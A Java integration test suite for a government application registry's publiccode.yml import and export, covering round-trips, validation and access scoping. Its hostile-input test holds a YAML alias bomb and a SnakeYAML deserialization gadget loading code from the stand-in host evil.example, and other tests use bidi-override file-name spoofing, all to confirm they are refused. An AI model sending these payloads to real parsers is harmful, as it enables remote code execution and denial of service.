package id.go.spbe.appregistry.transfer;

import id.go.spbe.appregistry.transfer.TransferTestSupport.Reply;
import id.go.spbe.platform.test.http.TestHttp;
import id.go.spbe.platform.test.infra.SpbeIntegrationTest;
import org.junit.jupiter.api.BeforeEach;
import id.go.spbe.appregistry.application.ApplicationRepository;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;
import org.springframework.data.mongodb.core.query.Update;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;
import tools.jackson.databind.JsonNode;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

import static id.go.spbe.appregistry.AppRegistryTestSupport.admin;
import static id.go.spbe.appregistry.AppRegistryTestSupport.auditor;
import static id.go.spbe.appregistry.AppRegistryTestSupport.operator;
import static org.assertj.core.api.Assertions.assertThat;

/** A1 with the publiccode.yml standard: every real file from the shared data set, export and import back. */
@SpbeIntegrationTest
class PubliccodeIntegrationTest {

    static final String IMPORT = "/api/v1/applications/publiccode";

    @LocalServerPort
    int port;

    @Autowired
    MongoTemplate mongo;

    @Autowired
    ApplicationRepository applications;

    TransferTestSupport http;
    TestHttp api;

    @BeforeEach
    void setUp() {
        http = new TransferTestSupport(port);
        api = TestHttp.onPort(port);
    }

    /** The 8 valid-looking files: name, description language (id, else en, else it, else the first), maintenance. */
    @Test
    void a1EveryValidPubliccodeFileImportsAsADraftApplication() {
        String opd = http.freshOpd("PCY");
        Map<String, String> languages = Map.of(
                "agid-wai-portal", "it", "amsterdam-signals-frontend", "nl", "arpa-simc-dballe", "it",
                "ausl-reggioemilia-docsuitepa", "it", "cmvenezia-desk-sicla", "it",
                "comune-milano-whistleblowing", "it", "linkit-govpay", "it", "riksarkivet-htrflow", "en");
        Map<String, JsonNode> apps = new java.util.HashMap<>();
        for (Map.Entry<String, String> file : languages.entrySet()) {
            Reply created = importFile(admin(), file.getKey() + ".publiccode.yml", "?applicationClass=UMUM&ownerOpd="
                    + opd);
            assertThat(created.status()).as(file.getKey() + ": " + created).isEqualTo(201);
            JsonNode body = created.json();
            assertThat(body.get("descriptionLanguage").asString()).as(file.getKey()).isEqualTo(file.getValue());
            assertThat(body.get("status").asString()).isEqualTo("DRAFT");
            assertThat(created.location()).isEqualTo("/api/v1/applications/" + body.get("id").asString());
            apps.put(file.getKey(), api.get(created.location()).auth(admin()).send().json());
        }

        JsonNode wai = apps.get("agid-wai-portal");
        assertThat(wai.get("name").asString()).isEqualTo("Web Analytics Italia - Portale");
        assertThat(wai.get("ownerOpd").asString()).isEqualTo(opd);
        assertThat(wai.get("sourceRepositoryUrl").asString()).isEqualTo("https://github.com/agid/wai-portal");
        assertThat(wai.get("licence").get("spdxId").asString()).isEqualTo("AGPL-3.0-or-later");
        assertThat(wai.get("licence").get("kind").asString()).isEqualTo("OPEN_SOURCE");
        assertThat(wai.get("maintenance").get("type").asString()).isEqualTo("CONTRACT");
        assertThat(wai.get("maintenance").get("maintainer").asString()).isEqualTo("Indra Italia");
        assertThat(wai.get("maintenance").get("contractEndsOn").asString()).isEqualTo("2021-10-18");
        assertThat(wai.get("contacts").get(0).get("email").asString()).isEqualTo("davide.porrovecchio@agid.gov.it");
        // A10: the landing page is outside the region's domain, so it is not the application's URL.
        assertThat(wai.get("url").isNull()).isTrue();
        assertThat(wai.get("description").asString()).startsWith("**Web analytics Italia (WAI)**")
                .contains("(di luar domain rejanglebongkab.go.id): https://webanalytics.italia.it/");

        JsonNode docsuite = apps.get("ausl-reggioemilia-docsuitepa");
        assertThat(docsuite.get("maintenance").get("maintainer").asString()).isEqualTo("Dgroove Srl");
        assertThat(docsuite.get("maintenance").get("contractEndsOn").asString()).isEqualTo("2025-12-31");
        assertThat(docsuite.get("techStack").valueStream().map(JsonNode::asString)).contains("Microsoft SQL Server");
        assertThat(docsuite.get("functionDomains").valueStream().map(JsonNode::asString))
                .containsExactly("KEARSIPAN_DINAMIS");
        JsonNode sicla = apps.get("cmvenezia-desk-sicla");
        assertThat(sicla.get("maintenance").get("contractEndsOn").asString()).isEqualTo("2020-09-30");
        assertThat(sicla.get("contacts").get(0).get("phone").asString()).isEqualTo("+390412501953");
        JsonNode govpay = apps.get("linkit-govpay");
        assertThat(govpay.get("maintenance").get("type").asString()).isEqualTo("COMMUNITY");
        assertThat(govpay.get("maintenance").get("maintainer").asString()).isEqualTo("Link.it");
        assertThat(govpay.get("maintenance").get("contractEndsOn").asString()).isEqualTo("2023-12-31");
        assertThat(apps.get("comune-milano-whistleblowing").get("maintenance").get("type").asString())
                .isEqualTo("NONE");
        assertThat(apps.get("arpa-simc-dballe").get("techStack").valueStream().map(JsonNode::asString))
                .containsExactly("Python", "SQLite", "MySQL", "PostgreSQL");
        assertThat(apps.get("riksarkivet-htrflow").get("licence").get("spdxId").asString()).isEqualTo("EUPL-1.2");

        // The same file again for the same OPD is a duplicate.
        Reply again = importFile(admin(), "agid-wai-portal.publiccode.yml", "?applicationClass=UMUM&ownerOpd=" + opd);
        assertThat(again.status()).isEqualTo(409);
        assertThat(again.json().get("detail").asString()).contains("sudah terdaftar");
    }

    /** The 11 real files of the shared data set (test resources, byte-for-byte copies; see SOURCES.md). */
    static final List<String> REAL_FILES = List.of("agid-wai-portal", "amsterdam-signals-frontend",
            "arpa-simc-dballe", "ausl-reggioemilia-docsuitepa", "cmvenezia-desk-sicla", "comune-milano-whistleblowing",
            "linkit-govpay", "riksarkivet-htrflow", "BROKEN-aitema-terminvergabe", "BROKEN-catala-incomplete",
            "BROKEN-italia-design-angular-kit");

    /** Top-level keys the register maps (some partly, which the warnings then name below the key). */
    static final Set<String> MAPPED = Set.of("publiccodeYmlVersion", "name", "url", "landingURL", "platforms",
            "categories", "developmentStatus", "softwareType", "usedBy", "description", "legal", "maintenance",
            "localisation", "dependsOn");

    /**
     * Issue 7 defect 10: import then export keeps developmentStatus (a stable application used to come back as
     * concept), platforms and categories, so a valid file exports without gaps; everything the register cannot hold
     * is a warning naming its key. Over every real file: the valid ones round-trip, the broken ones are refused.
     */
    @Test
    void defect10EveryRealFileKeepsItsDevelopmentStatusPlatformsAndCategoriesAndNamesWhatItCannotHold() {
        String opd = http.freshOpd("RTR");
        Map<String, String> ids = new java.util.HashMap<>();
        for (String name : REAL_FILES) {
            String file = name + ".publiccode.yml";
            Map<?, ?> original = (Map<?, ?>) PubliccodeYaml.load(TransferTestSupport.resource("publiccode/" + file));
            Reply created = importFile(admin(), file, "?applicationClass=UMUM&ownerOpd=" + opd);
            if (name.startsWith("BROKEN-")) {
                assertThat(created.status()).as(name).isEqualTo(400);
                continue;
            }
            assertThat(created.status()).as(name + ": " + created).isEqualTo(201);
            ids.put(name, created.json().get("id").asString());
            Map<String, String> warnings = new java.util.LinkedHashMap<>();
            created.json().get("warnings").valueStream().forEach(w -> warnings.put(w.get("key").asString(),
                    w.get("message").asString()));

            Reply exported = http.get(created.location() + "/publiccode.yml", admin());
            assertThat(exported.status()).as(name).isEqualTo(200);
            assertThat(exported.headers()).as(name + " exports without gaps").doesNotContainKey(
                    "x-publiccode-incomplete");
            Map<String, Object> doc = yaml(exported.body());
            assertThat(doc.get("developmentStatus")).as(name).isEqualTo(original.get("developmentStatus"));
            assertThat(asList(doc.get("platforms"))).as(name).containsExactlyInAnyOrderElementsOf(
                    asList(original.get("platforms")));
            assertThat(doc.get("categories")).as(name).isEqualTo(original.get("categories"));
            String language = created.json().get("descriptionLanguage").asString();
            Object features = ((Map<?, ?>) ((Map<?, ?>) original.get("description")).get(language)).get("features");
            assertThat(((Map<?, ?>) ((Map<?, ?>) doc.get("description")).get("id")).get("features")).as(name)
                    .isEqualTo(features);

            // Every key the register has no home for is named, and every named key is one of the file's.
            for (Object key : original.keySet()) {
                if (!MAPPED.contains(String.valueOf(key))) {
                    assertThat(warnings).as(name).containsKey(String.valueOf(key));
                }
            }
            assertThat(warnings.keySet()).as(name).allSatisfy(key -> assertThat(at(original, key))
                    .as(name + " has " + key).isNotNull());
            if (original.containsKey("dependsOn")) {
                assertThat(warnings.get("dependsOn")).as(name).contains("techStack");
            }
            if ("stable".equals(original.get("developmentStatus"))) {
                assertThat(warnings.get("developmentStatus")).as(name).contains("A6");
            }
        }
        assertThat(ids).hasSize(8);

        JsonNode app = api.get("/api/v1/applications/" + ids.get("agid-wai-portal")).auth(admin()).send().json();
        assertThat(app.get("developmentStatus").asString()).isEqualTo("BETA");
        assertThat(app.get("stage").asString()).as("beta software is tested here next (A5)").isEqualTo("TESTING");
        assertThat(app.get("platforms").valueStream().map(JsonNode::asString)).containsExactly("web");
    }

    /** Defect 10: the new form fields are the owner's to fill too, and the export says what they say. */
    @Test
    void defect10TheFormHoldsDevelopmentStatusPlatformsCategoriesAndFeaturesForTheExport() {
        Map<String, Object> form = new java.util.HashMap<>(Map.of("name", "E-Kinerja " + UUID.randomUUID(),
                "applicationClass", "KHUSUS", "functionDomains", List.of("KEPEGAWAIAN"),
                "developmentStatus", "STABLE", "platforms", List.of("web", "android"),
                "categories", List.of("talent-management"), "features", List.of("Sasaran kinerja pegawai",
                        "Penilaian perilaku kerja")));
        TestHttp.Reply created = api.post("/api/v1/applications").auth(operator("DINKES")).json(form).send();
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        JsonNode app = created.json();
        assertThat(app.get("developmentStatus").asString()).isEqualTo("STABLE");
        assertThat(app.get("platforms").valueStream().map(JsonNode::asString)).containsExactly("web", "android");

        Map<String, Object> doc = yaml(http.get("/api/v1/applications/" + app.get("id").asString()
                + "/publiccode.yml", operator("DINKES")).body());
        assertThat(doc.get("developmentStatus")).isEqualTo("stable");
        assertThat(doc.get("platforms")).isEqualTo(List.of("web", "android"));
        assertThat(doc.get("categories")).as("the owner's choice, not the derived hr/payroll/...")
                .isEqualTo(List.of("talent-management"));
        assertThat(((Map<?, ?>) ((Map<?, ?>) doc.get("description")).get("id")).get("features"))
                .isEqualTo(List.of("Sasaran kinerja pegawai", "Penilaian perilaku kerja"));

        form.put("categories", List.of("Human Resources"));
        form.put("developmentStatus", "FINISHED");
        TestHttp.Reply bad = api.post("/api/v1/applications").auth(operator("DINKES")).json(form).send();
        assertThat(bad.status()).as(bad.toString()).isEqualTo(400);
        assertThat(bad.contentType()).startsWith("application/problem+json");
    }

    /** The file's beta/development/stable moves the register's SDLC stage as far as A5/A6 allow. */
    @Test
    void defect10TheDeclaredDevelopmentStatusMovesTheStageAsFarAsTheRulesAllow() {
        String opd = http.freshOpd("SDL");
        Map<String, String> stages = Map.of("comune-milano-whistleblowing", "CONSTRUCTION",
                "arpa-simc-dballe", "TESTING", "riksarkivet-htrflow", "TESTING");
        for (Map.Entry<String, String> file : stages.entrySet()) {
            Reply created = importFile(admin(), file.getKey() + ".publiccode.yml", "?applicationClass=UMUM&ownerOpd="
                    + opd);
            assertThat(created.status()).as(created.toString()).isEqualTo(201);
            JsonNode app = api.get(created.location()).auth(admin()).send().json();
            assertThat(app.get("stage").asString()).as(file.getKey()).isEqualTo(file.getValue());
            assertThat(app.get("status").asString()).isEqualTo("DRAFT");
        }
    }

    /**
     * Issue 7 defect 16: a name holding NUL, ESC and RIGHT-TO-LEFT OVERRIDE, stored before the platform refused such
     * input, used to export as {@code name: !!binary |- ...}. The export writes plain text without them and says so.
     */
    @Test
    void defect16ControlCharactersStoredInAnApplicationExportAsPlainTextWithoutThem() {
        String u = UUID.randomUUID().toString().substring(0, 6);
        String id = api.post("/api/v1/applications").auth(operator("DINKES"))
                .json(Map.of("name", "SIMPEG " + u, "applicationClass", "KHUSUS")).send().json().get("id").asString();
        String hostile = "SIM\u0000PEG " + u + "\u001B[2J \u202Efdp.exe";
        mongo.updateFirst(Query.query(Criteria.where("_id").is(id)), new Update().set("name", hostile)
                .set("description", "Baris satu\u0007.\nBaris \u2066dua\u2069."), "applications");
        assertThat(applications.findById(id).orElseThrow().name()).isEqualTo(hostile);

        Reply exported = http.get("/api/v1/applications/" + id + "/publiccode.yml", operator("DINKES"));
        assertThat(exported.status()).as(exported.toString()).isEqualTo(200);
        assertThat(exported.body()).doesNotContain("!!binary").doesNotContain("\u0000").doesNotContain("\u001B")
                .doesNotContain("\u202E").doesNotContain("\u2066").doesNotContain("\u0007")
                .contains("# Karakter kontrol/pengatur arah teks dihapus dari: name, description.id.shortDescription,"
                        + " description.id.longDescription.");
        Map<String, Object> doc = yaml(exported.body());
        assertThat(doc.get("name")).isEqualTo("SIMPEG " + u + "[2J fdp.exe");
        Map<?, ?> text = (Map<?, ?>) ((Map<?, ?>) doc.get("description")).get("id");
        assertThat(text.get("longDescription")).isEqualTo("Baris satu.\nBaris dua.");
    }

    /** Defect 16 on the way in: control and bidi characters escaped in a YAML string are refused with their path. */
    @Test
    void defect16AnImportedDocumentWithControlOrBidiCharactersIsRefusedWithTheirPath() {
        String file = new String(TransferTestSupport.resource("publiccode/riksarkivet-htrflow.publiccode.yml"),
                StandardCharsets.UTF_8);
        String hostile = file.replace("name: HTRflow\n", "name: \"HTR\\u202Eflow\\x1b\"\n")
                .replace("  - linux\n", "  - \"li\\0nux\"\n");
        assertThat(hostile).isNotEqualTo(file);
        Reply refused = post(hostile);
        assertThat(errors(refused)).containsExactlyInAnyOrder(
                "name: mengandung karakter kontrol atau pengatur arah teks (U+202E); hapus karakter tersebut.",
                "platforms[0]: mengandung karakter kontrol atau pengatur arah teks (U+0000); hapus karakter tersebut.");
        String raw = file.replace("name: HTRflow\n", "name: HTR\u202Eflow\n");
        assertThat(errors(post(raw))).containsExactly(
                "name: mengandung karakter kontrol atau pengatur arah teks (U+202E); hapus karakter tersebut.");
    }

    private static List<Object> asList(Object value) {
        return value instanceof List<?> list ? List.copyOf(list) : List.of(value);
    }

    /** The value at a warning key such as {@code maintenance.contacts[0].phone}, or null if the file has none. */
    private static Object at(Object document, String key) {
        Object current = document;
        for (String part : key.split("\\.")) {
            String name = part.replaceAll("\\[\\d+]$", "");
            current = current instanceof Map<?, ?> map ? map.get(name) : null;
            java.util.regex.Matcher index = java.util.regex.Pattern.compile("\\[(\\d+)]$").matcher(part);
            if (current != null && index.find()) {
                current = current instanceof List<?> list ? list.get(Integer.parseInt(index.group(1))) : null;
            }
        }
        return current;
    }

    @Test
    void a1BrokenPubliccodeFilesAreRefusedWithEveryProblemAtOnce() {
        assertThat(errors(importFile(admin(), "BROKEN-italia-design-angular-kit.publiccode.yml",
                "?applicationClass=UMUM"))).containsExactly(
                "description.it.shortDescription: lebih dari 150 karakter (155 karakter).");
        assertThat(errors(importFile(admin(), "BROKEN-aitema-terminvergabe.publiccode.yml",
                "?applicationClass=UMUM"))).containsExactlyInAnyOrder(
                "publiccodeYmlVersion: harus berupa teks bertanda kutip (mis. \"0.4\"), bukan angka 0.4.",
                "categories[1]: 'government' bukan kategori dalam daftar standar publiccode.yml.",
                "maintenance.type: nilai 'commercial' tidak sah; yang berlaku: internal, contract, community, none.");
        List<String> catala = errors(importFile(admin(), "BROKEN-catala-incomplete.publiccode.yml",
                "?applicationClass=UMUM"));
        assertThat(catala.stream().map(e -> e.substring(0, e.indexOf(':')))).containsExactlyInAnyOrder(
                "platforms", "categories", "developmentStatus", "description.en.longDescription",
                "description.en.features", "localisation");
        // Nothing was registered from any of them.
        assertThat(api.get("/api/v1/applications?size=200").auth(admin()).send().json().get("items").valueStream()
                .map(a -> a.get("name").asString())).doesNotContain("Design Angular Kit", "Catala", "aitema|Termin");
    }

    @Test
    void a1AnApplicationExportsAsAValidPubliccodeDocumentAndImportsBack() {
        String u = UUID.randomUUID().toString().substring(0, 6);
        String description = "Sistem informasi manajemen kepegawaian daerah. Mencatat data pegawai, mutasi, "
                + "kenaikan pangkat, cuti dan penggajian untuk seluruh perangkat daerah, terhubung dengan data "
                + "kepegawaian nasional.";
        TestHttp.Reply created = api.post("/api/v1/applications").auth(operator("DINKES")).json(Map.of(
                "name", "SIMPEG " + u, "description", description, "applicationClass", "KHUSUS",
                "functionDomains", List.of("KEPEGAWAIAN", "KEUANGAN"), "userOpds", List.of("DISDIK"),
                "sourceRepositoryUrl", "https://git.rejanglebongkab.go.id/bkpsdm/simpeg",
                "url", "https://simpeg.rejanglebongkab.go.id",
                "licence", Map.of("kind", "OPEN_SOURCE", "spdxId", "EUPL-1.2"),
                "maintenance", Map.of("type", "CONTRACT", "maintainer", "PT Kode Daerah", "contractEndsOn",
                        "2027-03-31"),
                "contacts", List.of(Map.of("name", "Rina Wati", "role", "Dinas Kesehatan", "email",
                        "rina@rejanglebongkab.go.id", "phone", "+62 732 21000")))).send();
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        String id = created.json().get("id").asString();

        Reply exported = http.get("/api/v1/applications/" + id + "/publiccode.yml", operator("DINKES"));
        assertThat(exported.status()).as(exported.toString()).isEqualTo(200);
        assertThat(exported.contentType()).startsWith("application/yaml");
        assertThat(exported.headers()).doesNotContainKey("x-publiccode-incomplete");
        Map<String, Object> doc = yaml(exported.body());
        assertThat(doc.get("publiccodeYmlVersion")).isEqualTo("0.4");
        assertThat(doc.get("url")).isEqualTo("https://git.rejanglebongkab.go.id/bkpsdm/simpeg");
        assertThat(doc.get("landingURL")).isEqualTo("https://simpeg.rejanglebongkab.go.id");
        assertThat(doc.get("developmentStatus")).isEqualTo("concept");
        assertThat(doc.get("softwareType")).isEqualTo("standalone/web");
        assertThat(doc.get("categories")).isEqualTo(List.of("accounting", "financial-reporting", "hr",
                "employee-management", "payroll"));
        assertThat(doc.get("usedBy")).isEqualTo(List.of("Dinas Kesehatan", "Dinas Pendidikan"));
        Map<?, ?> text = (Map<?, ?>) ((Map<?, ?>) doc.get("description")).get("id");
        assertThat(text.get("shortDescription")).isEqualTo("Sistem informasi manajemen kepegawaian daerah.");
        assertThat(text.get("longDescription")).isEqualTo(description);
        Map<?, ?> legal = (Map<?, ?>) doc.get("legal");
        assertThat(legal.get("license")).isEqualTo("EUPL-1.2");
        assertThat(legal.get("mainCopyrightOwner")).isEqualTo("Pemerintah Kabupaten Rejang Lebong");
        Map<?, ?> maintenance = (Map<?, ?>) doc.get("maintenance");
        assertThat(maintenance.get("type")).isEqualTo("contract");
        assertThat(maintenance.get("contractors")).isEqualTo(List.of(Map.of("name", "PT Kode Daerah", "until",
                "2027-03-31")));
        assertThat(PubliccodeValidator.validate(doc)).isEmpty();

        Reply back = http.post(IMPORT + "?applicationClass=KHUSUS&ownerOpd=DISDIK", admin(), "application/yaml",
                exported.body().getBytes(StandardCharsets.UTF_8));
        assertThat(back.status()).as(back.toString()).isEqualTo(201);
        // Everything comes back; only the repository owner differs, because the copy belongs to DISDIK.
        assertThat(back.json().get("warnings").valueStream().map(w -> w.get("key").asString()))
                .containsExactly("legal.repoOwner");
        JsonNode original = api.get("/api/v1/applications/" + id).auth(admin()).send().json();
        JsonNode copy = api.get(back.location()).auth(admin()).send().json();
        for (String field : List.of("name", "description", "sourceRepositoryUrl", "url", "licence", "maintenance",
                "functionDomains", "contacts")) {
            assertThat(copy.get(field)).as(field).isEqualTo(original.get(field));
        }
        assertThat(copy.get("ownerOpd").asString()).isEqualTo("DISDIK");
        assertThat(copy.get("userOpds").valueStream().map(JsonNode::asString)).as("usedBy names the region's OPDs")
                .containsExactly("DISDIK", "DINKES");

        Reply duplicate = http.post(IMPORT + "?applicationClass=KHUSUS", operator("DINKES"), "application/yaml",
                exported.body().getBytes(StandardCharsets.UTF_8));
        assertThat(duplicate.status()).isEqualTo(409);
    }

    @Test
    void aMinimalApplicationExportsWithItsGapsNamed() {
        String id = api.post("/api/v1/applications").auth(operator("DINKES"))
                .json(Map.of("name", "Minimal " + UUID.randomUUID(), "applicationClass", "KHUSUS")).send()
                .json().get("id").asString();
        Reply exported = http.get("/api/v1/applications/" + id + "/publiccode.yml", operator("DINKES"));
        assertThat(exported.status()).isEqualTo(200);
        assertThat(exported.headers().get("x-publiccode-incomplete")).contains("url", "platforms", "categories",
                "legal.license", "maintenance.type");
        assertThat(exported.body()).contains("# Belum lengkap menurut standar publiccode.yml");
        assertThat(yaml(exported.body()).get("name")).asString().startsWith("Minimal ");
    }

    @Test
    void publiccodeFollowsOpdScoping() {
        String id = api.post("/api/v1/applications").auth(operator("DINKES"))
                .json(Map.of("name", "Lingkup " + UUID.randomUUID(), "applicationClass", "KHUSUS")).send()
                .json().get("id").asString();
        String path = "/api/v1/applications/" + id + "/publiccode.yml";
        assertThat(http.get(path, operator("DISDIK")).status()).isEqualTo(404);
        assertThat(http.get(path, auditor()).status()).isEqualTo(200);
        assertThat(http.get(path, admin()).status()).isEqualTo(200);
        assertThat(http.get(path, null).status()).isEqualTo(401);
        assertThat(http.get("/api/v1/applications/tidak-ada/publiccode.yml", admin()).status()).isEqualTo(404);

        assertThat(importFile(operator("DINKES"), "riksarkivet-htrflow.publiccode.yml",
                "?applicationClass=KHUSUS&ownerOpd=DISDIK").status()).isEqualTo(403);
        assertThat(importFile(auditor(), "riksarkivet-htrflow.publiccode.yml", "?applicationClass=UMUM").status())
                .isEqualTo(403);
        Reply g1 = importFile(admin(), "riksarkivet-htrflow.publiccode.yml", "?applicationClass=UMUM&ownerOpd=HANTU");
        assertThat(g1.status()).isEqualTo(422);
        assertThat(g1.json().get("obligation").asString()).isEqualTo("G1");
        Reply a2 = importFile(operator("DINKES"), "riksarkivet-htrflow.publiccode.yml",
                "?applicationClass=KHUSUS_PD");
        assertThat(a2.status()).isEqualTo(422);
        assertThat(a2.json().get("obligation").asString()).isEqualTo("A2");
    }

    @Test
    void hostileOrMalformedYamlIsA400NeverA500() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char level = 'b'; level <= 'j'; level++) {
            char previous = (char) (level - 1);
            bomb.append(level).append(": &").append(level).append(" [");
            bomb.append(String.join(",", java.util.Collections.nCopies(9, "*" + previous))).append("]\n");
        }
        assertInvalid(post(bomb.toString()), "alias");
        assertInvalid(post("a: " + "[".repeat(200) + "]".repeat(200) + "\n"), "terlalu dalam");
        assertInvalid(post("name: A\nname: B\n"), "duplicate key");
        assertInvalid(post("name: [unclosed\n"), "YAML tidak sah");
        assertInvalid(post("- just\n- a list\n"), "pemetaan");
        assertInvalid(post("x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://evil.example/\"]]]]\n"), "YAML tidak sah");
        assertInvalid(post(""), "kosong");
        Reply noClass = http.post(IMPORT, admin(), "application/yaml",
                TransferTestSupport.resource("publiccode/riksarkivet-htrflow.publiccode.yml"));
        assertThat(errors(noClass)).hasSize(1).allMatch(e -> e.startsWith("applicationClass: wajib dipilih"));

        assertThat(http.post(IMPORT + "?applicationClass=UMUM", admin(), "application/json",
                "{}".getBytes(StandardCharsets.UTF_8)).status()).isEqualTo(415);
        byte[] huge = ("name: \"" + "x".repeat(300_000) + "\"\n").getBytes(StandardCharsets.UTF_8);
        Reply tooLarge = http.post(IMPORT + "?applicationClass=UMUM", admin(), "application/yaml", huge);
        assertThat(tooLarge.status()).isEqualTo(413);
        assertThat(tooLarge.contentType()).startsWith("application/problem+json");
        assertThat(tooLarge.json().get("type").asString()).endsWith("/payload-too-large");
        assertThat(http.post(IMPORT + "?applicationClass=RAHASIA", admin(), "application/yaml",
                "name: x\n".getBytes(StandardCharsets.UTF_8)).status()).isEqualTo(400);
        byte[] latin1 = "name: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        assertInvalid(http.post(IMPORT + "?applicationClass=UMUM", admin(), "application/yaml", latin1), "UTF-8");
    }

    private Reply post(String yaml) {
        return http.post(IMPORT + "?applicationClass=UMUM", admin(), "application/yaml",
                yaml.getBytes(StandardCharsets.UTF_8));
    }

    private Reply importFile(String token, String file, String query) {
        return http.multipart(IMPORT + query, token, "file", file, "application/yaml",
                TransferTestSupport.resource("publiccode/" + file), Map.of());
    }

    private static void assertInvalid(Reply reply, String messageContains) {
        assertThat(reply.status()).as(reply.toString()).isEqualTo(400);
        assertThat(reply.contentType()).startsWith("application/problem+json");
        assertThat(reply.json().get("errors").get(0).get("message").asString()).contains(messageContains);
    }

    private static List<String> errors(Reply reply) {
        assertThat(reply.status()).as(reply.toString()).isEqualTo(400);
        assertThat(reply.contentType()).startsWith("application/problem+json");
        return reply.json().get("errors").valueStream()
                .map(e -> e.get("field").asString() + ": " + e.get("message").asString()).toList();
    }

    private static Map<String, Object> yaml(String text) {
        return new Yaml(new SafeConstructor(new LoaderOptions())).load(text);
    }
}
